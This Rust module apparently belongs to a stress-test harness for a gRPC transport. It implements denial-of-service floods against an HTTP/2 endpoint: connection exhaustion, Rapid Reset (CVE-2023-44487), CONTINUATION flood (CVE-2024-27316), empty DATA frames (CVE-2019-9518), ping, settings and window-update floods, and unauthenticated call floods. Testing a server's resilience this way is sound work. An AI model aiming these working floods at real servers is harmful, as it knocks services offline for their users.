//! Those who send as fast as it goes.

use std::io;
use std::net::SocketAddr;

use bulla_transport::grpc::proto;
use tokio::io::AsyncReadExt;

use super::{CONNECTED, CUT, DONE, more};
use crate::frames::{self, DATA, END_HEADERS, HEADERS, frame};
use crate::link::{Link, tcp};
use crate::parties::client_config;

/// How many frames go out together.
const AT_ONCE: usize = 64;

/// How many calls are not answered at a time.
const IN_FLIGHT: usize = 1_000;

pub(super) async fn connections_of_one(carrier: SocketAddr) {
    connections(carrier, |_| 5).await;
}

pub(super) async fn connections_of_many(carrier: SocketAddr) {
    connections(carrier, |number| u8::try_from(number % 200).unwrap() + 6).await;
}

/// More connections than an address may have, each held and silent until it is closed.
async fn connections(carrier: SocketAddr, from: impl Fn(usize) -> u8) {
    for number in 0.. {
        match tcp(carrier, from(number)).await {
            Ok(mut stream) => {
                more(&CONNECTED, 1);
                tokio::spawn(async move {
                    let _ = stream.read(&mut [0; 16]).await;
                    more(&CUT, 1);
                });
            }
            // There are no more files, or ports.
            Err(_) => tokio::time::sleep(std::time::Duration::from_millis(50)).await,
        }
    }
}

/// Keeps a connection on which `frames`, which is given the number of the next stream, is sent again and
/// again.
async fn again(carrier: SocketAddr, start: &[u8], frames: impl Fn(u32) -> Vec<u8>) {
    let config = client_config();
    loop {
        let flood = async {
            let mut link = Link::open(carrier, 5, &config).await?;
            more(&CONNECTED, 1);
            link.send(&[&frames::opening(), start].concat()).await?;
            for stream in (3..).step_by(2 * AT_ONCE) {
                let streams = (0..AT_ONCE).map(|more| stream + 2 * u32::try_from(more).unwrap());
                let together: Vec<_> = streams.flat_map(&frames).collect();
                link.send(&together).await?;
                more(&DONE, AT_ONCE);
            }
            io::Result::Ok(())
        };
        if flood.await.is_err() {
            more(&CUT, 1);
        }
        tokio::task::yield_now().await;
    }
}

fn begun(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &frames::call_headers(frames::EXCHANGE))
}

/// CVE-2023-44487: calls that are begun and taken back.
pub(super) async fn rapid_reset(carrier: SocketAddr) {
    let cancel = 8_u32.to_be_bytes();
    again(carrier, &[], |stream| [begun(stream), frame(frames::RST_STREAM, 0, stream, &cancel)].concat())
        .await;
}

/// CVE-2024-27316: headers without an end.
pub(super) async fn continuations(carrier: SocketAddr) {
    let start = frame(HEADERS, 0, 1, &frames::call_headers(frames::CONNECT));
    let part = frames::header("x-padding", &"y".repeat(100));
    again(carrier, &start, |_| frame(frames::CONTINUATION, 0, 1, &part)).await;
}

pub(super) async fn pings(carrier: SocketAddr) {
    again(carrier, &[], |_| frame(frames::PING, 0, 0, &[7; 8])).await;
}

pub(super) async fn settings(carrier: SocketAddr) {
    again(carrier, &[], |_| frame(frames::SETTINGS, 0, 0, &[])).await;
}

/// CVE-2019-9518: frames with nothing in them, on a call that goes on.
pub(super) async fn empty_data(carrier: SocketAddr) {
    again(carrier, &begun(1), |_| frame(DATA, 0, 1, &[])).await;
}

pub(super) async fn window_updates(carrier: SocketAddr) {
    // None of the stream's: its window would soon be larger than it can be, which ends it.
    let start = [begun(1), frame(frames::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0])].concat();
    again(carrier, &start, |_| frame(frames::WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes())).await;
}

pub(super) async fn challenges(carrier: SocketAddr) {
    answered(carrier, frames::CHALLENGE, &[]).await;
}

/// Calls of whoever one likes, without a credential.
pub(super) async fn calls(carrier: SocketAddr) {
    let caller = proto::Caller::from(&crate::parties::user(1000));
    let mut bytes = vec![0x0a];
    let inner = encoded(&caller);
    bytes.push(u8::try_from(inner.len()).unwrap());
    bytes.extend_from_slice(&inner);
    answered(carrier, frames::CONNECT, &bytes).await;
}

/// A caller as the wire has it: address (1), installation (2), incarnation (3).
fn encoded(caller: &proto::Caller) -> Vec<u8> {
    let mut bytes = Vec::new();
    for (tag, field) in [(0x0a, &caller.address), (0x12, &caller.installation)] {
        bytes.extend_from_slice(&[tag, u8::try_from(field.len()).unwrap()]);
        bytes.extend_from_slice(field);
    }
    bytes.extend_from_slice(&[0x18, 1]);
    bytes
}

/// Makes the same call, [`IN_FLIGHT`] of them at a time.
pub(super) async fn answered(carrier: SocketAddr, path: &str, bytes: &[u8]) {
    let config = client_config();
    loop {
        let flood = async {
            let mut link = Link::open(carrier, 5, &config).await?;
            more(&CONNECTED, 1);
            link.send(&frames::opening()).await?;
            for (sent, stream) in (1..0x7fff_0000).step_by(2).enumerate() {
                while sent >= link.answers() + IN_FLIGHT {
                    link.send(&[]).await?;
                    tokio::time::sleep(std::time::Duration::from_millis(1)).await;
                }
                link.send(&frames::call(stream, path, bytes)).await?;
                more(&DONE, 1);
            }
            io::Result::Ok(())
        };
        if flood.await.is_err() {
            more(&CUT, 1);
        }
        tokio::task::yield_now().await;
    }
}
